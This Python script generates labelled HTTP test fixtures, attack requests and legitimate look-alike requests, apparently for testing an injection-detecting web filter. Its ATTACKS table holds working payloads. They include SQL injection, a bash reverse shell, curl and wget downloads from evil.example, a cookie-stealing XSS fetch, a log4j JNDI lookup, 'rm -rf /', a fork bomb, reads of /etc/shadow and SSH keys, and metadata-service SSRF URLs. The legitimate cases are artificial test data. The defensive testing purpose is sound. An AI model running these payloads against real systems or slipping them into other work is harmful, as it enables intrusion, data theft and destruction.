#!/usr/bin/env python3
"""Write attacks.jsonl and legitimate.jsonl, HTTP transactions as JSON lines, from the readable cases below.

usage: make.py [FOLDER]
"""
import base64
import json
import sys
from pathlib import Path
from urllib.parse import urlencode

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
# name -> the value of one parameter, sent once in the query and once in a JSON body
ATTACKS = {
    "sql_union": "7' union all select login, hash from members -- ",
    "sql_tautology": "x' or 'k'='k",
    "sql_stacked": "3'; drop table invoices; -- ",
    "sql_delay": "1 and sleep(9)",
    "sql_catalogue": "1' and (select count(*) from information_schema.tables) > 3 -- ",
    "nosql_javascript": "a' || this.role == 'admin",
    "ldap_filter": "*)(uid=*",
    "xpath_position": "'] | //user[position()=1] | a['",
    "command_chained": "report.pdf; cat /etc/hostname",
    "command_substitution": "$(curl evil.example)",
    "command_callback": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
    "template_arithmetic": "{{ 7 * 191 }}",
    "template_python": "{{ ''.__class__.__mro__ }}",
    "code_php": "<?php system('id'); ?>",
    "code_node": "require('child_process').execSync('id')",
    "lookup_log4j": "${jndi:ldap://evil.example/x}",
    "xss_script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "xss_handler": "<img src=q onerror=alert(1)>",
    "xss_link": "<a href='javascript:alert(1)'>x</a>",
    "traversal": "../../../../etc/passwd",
    "stream_wrapper": "php://filter/convert.base64-encode/resource=index",
    "ssrf_metadata": "http://169.254.169.254/latest/meta-data/",
    "ssrf_local": "http://127.0.0.1:8080/admin",
    "object_php": 'O:8:"Invoice_":1:{s:1:"a";i:1;}',
    "sql_or_number": "' or 5 -- x",
    "sql_alias": "0) as total from accounts",
    "sql_json_operator": "'{\"k\":[1]}' @> '{\"k\":[1]}'",
    "sql_cast": "current_user::regclass",
    "sql_scientific": "1.e(substring(1.e(select 1),1,1))",
    "sql_curly_quotes": "\u2019 or \u20191\u2019=\u20191",
    "sql_open_call": "concat_ws(",
    "sql_variable": "1; declare @t varchar(20)",
    "sql_case": "1 and case when 2>1 then 1 else 0 end",
    "sql_comment_in_keyword": "9 union/**/select/**/pass from members",
    "sql_large_object": "lo_import('/etc/hostname')",
    "command_pattern": "cat /e?c/host*me",
    "command_wrapped": "nohup curl 198.51.100.9",
    "command_quoted_word": "'wh'oami",
    "command_here_string": "; cat<<<word",
    "command_function": "b(){ b|b& };b",
    "command_alias": "alias q='curl'",
    "command_windows_loop": "for %i in (a b) do del %i",
    "command_variable_noise": "c$@at /etc/hostname",
    "mail_after_break": "hi\r\nRCPT TO:<eve@evil.example>",
    "php_variable_call": "${'_GET'}['f']($x)",
    "php_hidden_call": "readfile/* */('x')",
    "php_tag": "{php}phpinfo();{/php}",
    "node_loop": "while(true){}",
    "node_module": "process.mainModule.require('fs')",
    "ssrf_octal": "http://017700000001/",
    "ssrf_container": "http://host.docker.internal/",
    "ssrf_wildcard_dns": "https://10.0.0.5.nip.io/",
    "ssrf_gopher": "gopher://198.51.100.9:6379/_INFO",
    "xss_tab_in_scheme": "<a href=\"java&Tab;script:alert(1)\">",
    "xss_comment_detour": "document/**/.cookie",
    "xss_handler_alone": "x\" onpointerenter=alert(1) y=\"",
    "traversal_kernel": "/proc/self/environ",
    "traversal_history": "../.bash_history",
    "object_java": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    # Beside the legitimate texts of the same shape: what makes them attacks must go on to block.
    "sql_sign_alone": "'='",
    "sql_sign_after_name": "admin '='",
    "sql_pairs_and_comparison": "5 or 'a'='a'",
    "sql_closed_and_paired": "x\" or \"k\" like \"k",
    "sql_closed_digit": "x' or '1",
    "sql_delay_of_two_words": "rooms and sleep(4)",
    "sql_create": "1; create table loot(word text)",
    "sql_alter": "9' ; alter table members drop hash",
    "sql_catalogue_name": "select hash from sqlite_master",
    "sql_json_arrow": "'{\"k\":1}'->>'k'='1'",
    "sql_sqlite_prompt_word": "x'; select load_extension('/tmp/x') -- ",
    "ldap_two_conditions": "jane)(|(uid=*",
    "command_after_name": "Ann Lee; wget http://evil.example/x",
    "command_after_words": "foo bar | id",
    "command_line_of_root": "rm -rf /",
    "command_line_of_keys": "~/.ssh/id_ed25519",
    "command_into_shell": "printf aWQK | base64 -d | sh",
    "command_after_token": "8.8.8.8 | nc 198.51.100.7 443",
    "command_backticks": "`uname -a`",
    "command_unknown_program": "a.pdf; frobnicate --delete",
    "command_line_of_secret": "cat -n /etc/shadow",
    "command_download": "wget http://evil.example/a/run.sh",
    "command_broken_word": "wh\\oami",
    "command_filter_with_path": "x | grep -r key /home",
    "windows_condition": "if exist C:\\boot.ini del C:\\boot.ini",
    "code_call_with_text": "system('id'); die",
    "code_environment": "process.env.SECRET",
    "xss_prompt": "\");prompt(1)//",
    "xss_handler_spaced": "x onload= alert(1)",
    "xss_option_and_script": "--a=<style> <script>alert(1)</script>",
    "xss_base": "<base href=//evil.example/>",
    "xss_behaviour": "behaviour: url(x.htc)",
    "traversal_in_words": "see ../../../../etc/passwd",
    "stream_gopher_port": "gopher://cache:6379/_FLUSHALL",
    "kernel_sockets": "/proc/net/tcp",
    "ssrf_directory": "ldap://198.51.100.9/x",
}
LEGITIMATE = {
    "prose_select": "Please select an option from the table where the prices are listed, and drop me a line.",
    "prose_union": "The union of workers and the drop-off point at the market, or 1 of the 2 others.",
    "name_select": "Patrick O'Select",
    "name_union": "Mary O'Brien-Union",
    "prose_quotes": "It's the dogs' dinner -- or so they say; isn't it?",
    "code_forum": "How do I print a list in Python?\n\n```python\nfor x in items:\n    print(x)\n```\n",
    "code_sql_forum": "My query is slow:\n\nSELECT name FROM people WHERE age > 30 ORDER BY name;\n\nWhich index helps here?",
    "help_shell": "Run `apt-get install nginx` first and then restart the service with systemctl restart nginx please.",
    "stack_trace": "It failed with:\njava.lang.IllegalStateException: closed\n\tat com.example.Shop.load(Shop.java:42)\n",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiIsIm5hbWUiOiJKYW5lIn0.dGhpc2lzbm90YXNpZ25hdHVyZQ",
    "image": "data:image/png;base64," + base64.b64encode(bytes(range(200))).decode(),
    "markdown": "# Title\n\n- one\n- **two**\n\n[a link](https://example.org/a?b=c&d=e) and `code`.",
    "redirect": "https://shop.example.com/account/orders?page=2&sort=date#latest",
    "latex": r"\frac{a}{b} = \sum_{i=0}^{n} x_i \quad \text{where } x_i > 0",
    "css": ".card > a:hover { color: #336699; margin: 0 auto; }",
    "file_name": "holiday-2026 (1).svg",
    "expression": r"^[a-z0-9._-]+@[a-z0-9.-]+\.[a-z]{2,}$",
    "graphql": "query Cart($id: ID!) { cart(id: $id) { lines { sku quantity } total } }",
    "name_or": "Orla Anderson",
    "name_apostrophes": "Siobh\u00e1n N\u00ed D'Arcy-O'Neill",
    "place": "King's Cross & St. Pancras; platform 9",
    "org_word": "orgs",
    "android": "android",
    "title_function": "How does count() differ from len()?",
    "c_prototype": "int puts(const char *s); int putc(int c, FILE *stream);",
    "signature": "access.list(user, opts) -> Promise<List>",
    "math": "f(x) = 3x + 2; g(x) = x - 1",
    "price": "50 % off: $5 each, or 3 for $12",
    "emoticons": ":-) ;-) <3 (^_^) :(",
    "list_of_words": "cat, dog, mouse; find more",
    "recipe": "Cut the onions, sort the beans & make the sauce; at last, cat food for the cat.",
    "quoted_title": "\"Romeo and Juliet\" or 'Macbeth' - which is better?",
    "question_sql": "What is the difference between DELETE FROM and TRUNCATE TABLE?",
    "question_shell": "Is there a way to run a script at night with cron?",
    "question_js": "Why does document.cookie return an empty string in my tests?",
    "url_with_port": "https://example.org:8443/a/b?c=d",
    "url_docs": "see http://docs.example.org/en/latest/#install",
    "log_line": "2026-03-01 10:00:00 INFO started in 3.2 s (pid 4711)",
    "version_range": ">=1.2.0 <2.0.0 || ^3.1",
    "path_relative": "src/components/Button.tsx",
    "path_windows": "C:\\Users\\Ann\\Documents\\report.docx",
    "yaml": "on:\n  push:\n    branches: [main]\n",
    "email_reply": "> did you select the date?\n\nYes - Monday, or Tuesday if that's full.",
    "template_text": "Dear {{ name }}, thank you for your order.",
    "hashes": "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "uuid": "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "phone": "+44 (0)20 7946 0018",
    "hashtags": "#love #summer -- see you there!",
    "temperature": "between 5 and 7 degrees, or < 3 at night",
    # Quotes in pairs, as writers set them.
    "quotes_two_words": 'Use "left" or "right" here',
    "quotes_settings": 'Sets "Depends=" or "Before=" for it',
    "quotes_sign": 'the "=" sign is missing',
    "quotes_sign_single": "Give '-' to read the list",
    "quotes_gnu": "The `<' or `>' operators",
    "quotes_gnu_first": "`*' stands for all",
    "quotes_latex": "say ``yes'' or ``no'' first",
    "quotes_option": 'show --format="%h %s',
    "quotes_arrow": "typo: 'recieve' -> 'receive'",
    "quotes_typographic": "it says \u201cdone\u201d; then it stops",
    "quotes_case": 'case "$1" in start) echo "$1" ;; *)',
    "quotes_broken_off": 'either "2 apples" or "3 pe',
    "quotes_apostrophe": "the list; if it doesn't",
    # A condition is no injection where no literal is closed.
    "condition_setting": "and LogLevel=debug, as before",
    "condition_autolink": "or later <https://example.org/terms.html>.",
    "condition_reference": "and pipe(2)). These are",
    "sql_prompt": "shop=> create table notes(id int)",
    "sql_quoted_query": 'slow: "SELECT count(*)" took 3 s',
    "sql_statement_name": "bad) CREATE TABLE commands",
    "sql_plural": "select item(s) to",
    "sql_clause": "ORDER BY",
    "sql_word": "shutdown",
    "sql_quoted_word": '"union" is joined later',
    "sleep_reference": "as with sleep(3) or usleep(3),",
    "sleep_python": "app 1.2: async def f(): await asyncio.sleep(3)",
    "open_prototype": "tz_parse_rule_set (",
    "assignment_python": "class Box(Base): size = Int() depth = Int()",
    # Commands in sentences, transcripts and lists.
    "command_sentence": "False; like -depth but reads",
    "command_semicolon": "char *p); Find a free",
    "command_transcript": "$ echo one | sudo -u guest tee",
    "command_transcript_label": "disk: % mount /mnt -o ro; df",
    "command_in_quotes": 'build: avoid "./bootstrap && make',
    "command_inline_code": "After `git fetch` or `curl && tar`, run",
    "command_alternatives": "list | fetch | remove-all",
    "command_filter": "orders.csv | sort -u",
    "command_example": "curl --compressed -Z https://example.com",
    "command_option_text": "gzip -q: be quiet",
    "command_install_text": "find -printf %M: print modes",
    "command_c_address": "list.h: FILE *a); FILE *fopen(const char",
    "command_shebang": "run.sh: #! /bin/sh set $(date)",
    "command_unset": "kind=$(unset $(env_names); git -C .. log",
    "command_braces": "* {,*/}Makefile.am: Tidy",
    "command_groff": "Name\\n Writes the name",
    "glob_of_proc": "reads /proc/*/status files",
    "alternation_table": "| remove |",
    "if_statement": "if (p == limit",
    "if_python": "app 0.2: def f(x): if x.kind == 'a': return",
    # Code in titles.
    "code_header": "- Do not include `process.h` there",
    "code_call": 'rmdir("a/b"); Removes an',
    "code_call_label": "tree 1.0.2: out = {} exec(code, out)",
    "code_reference": "once open (openpty(3)), the",
    "code_prompt": "lib 3.0: >>> import pickle >>> x = pickle.loads(y)",
    "code_log": "lib 2.1: fetch(url).then(r => { console.log('size ' + r.size",
    "code_prompt_input": "kit 3.1: name = prompt('Your",
    "code_serverless": "aws 1.0: [`Stack::Function`](https://example.org/function.html) resource",
    "placeholder_options": "git log [--author=<name>] [--style=<style>] [<path>]",
    "placeholder_words": "The <type> object <object>,",
    "handler_setting": 'use "OnFailure=mail@%n.service" for it',
    "handler_setting_word": "OnCalendar= timers, see below",
    "behaviour_word": "odd behaviour: nested lists",
    # Paths and addresses that people write about.
    "path_error": "../../src/draw_box.c:53:25: error: field 'w' has no type",
    "path_tunable": "/proc/sys/vm/swappiness",
    "path_log_folder": "/var/log/journal/",
    "path_in_prose": "They may wait for the folder to be moved, then open a path such as ../../../etc/passwd.",
    "scheme_placeholder": "gopher://some_host/kind selector gopher://some_host/kind",
    "java_word": "py-runtime 4.1: At the start of the exec-plus tests",
}


def transaction(name, label, method, uri, headers, body=b""):
    if body:
        headers = headers + [["Content-Length", str(len(body))]]
    return {"name": name, "label": label, "method": method, "uri": uri, "version": "1.1",
            "headers": [["Host", "shop.example.com"], ["User-Agent", BROWSER], ["Accept", "*/*"]] + headers,
            "body_b64": base64.b64encode(body).decode()}


def both(cases, label):
    for name, value in cases.items():
        yield transaction(name + "_query", label, "GET", "/search?" + urlencode({"q": value}), [])
        body = json.dumps({"item": 7, "text": value}).encode()
        yield transaction(name + "_json", label, "POST", "/api/items", [["Content-Type", "application/json"]], body)


def attacks():
    yield from both(ATTACKS, "attack")
    # A harmless value that the same rule looks at, after the attack and before it.
    attack, prose = "; uname -a", "First make the file; cat it then to see what it says about the others"
    for name, pairs in (("hidden_behind_prose", [("a", attack), ("b", prose)]), ("hidden_after_prose", [("a", prose), ("b", attack)])):
        yield transaction(name, "attack", "GET", "/search?" + urlencode(pairs), [])
    yield transaction("nosql_operator", "attack", "POST", "/login", [["Content-Type", "application/json"]],
                      b'{"user": "jane", "password": {"$ne": null}}')
    yield transaction("xxe", "attack", "POST", "/import", [["Content-Type", "application/xml"]],
                      b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>')
    yield transaction("smuggling", "attack", "POST", "/", [["Transfer-Encoding", "chunked"], ["Content-Length", "4"]])
    # Applications read a body without asking what it is called.
    statement = "1' union all select login, hash from members -- "
    bodies = {"json": json.dumps({"text": statement}).encode(), "form": urlencode({"text": statement}).encode()}
    for kind in (None, "text/json", "text/plain", "application/x-ndjson", "application/octet-stream", "application/json,text/plain",
                 "image/png", "whatever"):
        for form, body in bodies.items():
            if kind and "json" in kind and form == "form":
                continue
            headers = [["Content-Type", kind]] if kind else []
            yield transaction(f"{form}_as_{kind}", "attack", "POST", "/api/items", headers, body)
    yield transaction("xml_as_text", "attack", "POST", "/api/items", [["Content-Type", "text/plain"]],
                      f"<r><a>{statement}</a></r>".encode())
    yield transaction("scanner", "attack", "GET", "/", [["User-Agent", "sqlmap/1.8"]])


def legitimate():
    yield from both(LEGITIMATE, "legit")
    for name, kind, body in (
        ("log_lines", "application/x-ndjson", b'{"level":"info","text":"started"}\n{"level":"warn","text":"it\'s late"}\n'),
        ("picture", "application/octet-stream", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00' or 1=1 -- \x00\x00\x00\x02\x08\x06\x03\x01"),
        ("document", "application/pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n(' or 1=1 -- )\n"),
        ("broken_json", "text/plain", b'{"note": "it\'s half a do'),
        ("table", "text/csv", b"id,name,note\n1,O'Neil,\"select one; then go\"\n2,Anna & Sons,none\n"),
        ("nothing", None, b""),
        ("native_app", "application/x-www-form-urlencoded", b"client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcb&response_type=code"),
    ):
        yield transaction(name + "_body", "legit", "POST", "/api/items", [["Content-Type", kind]] if kind else [], body)


def main():
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent)
    for name, lines in (("attacks", attacks()), ("legitimate", legitimate())):
        (folder / f"{name}.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))


main()
